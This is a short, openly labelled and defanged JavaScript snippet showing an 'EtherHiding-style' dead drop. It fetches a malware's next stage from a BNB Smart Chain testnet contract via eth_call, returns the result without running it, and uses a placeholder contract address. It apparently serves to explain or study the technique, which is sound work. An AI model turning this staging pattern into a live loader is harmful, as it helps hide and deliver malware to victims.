// EtherHiding-style dead drop (defanged): the next stage is read from a
// contract on the BNB Smart Chain testnet with eth_call.
const RPC = 'https://data-seed-prebsc-1-s1.bnbchain.org:8545';

async function stage() {
  const res = await fetch(RPC, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x0000000000000000000000000000000000000001', data: '0x6d4ce63c' }, 'latest'] }),
  });
  return (await res.json()).result;
}
module.exports = stage;
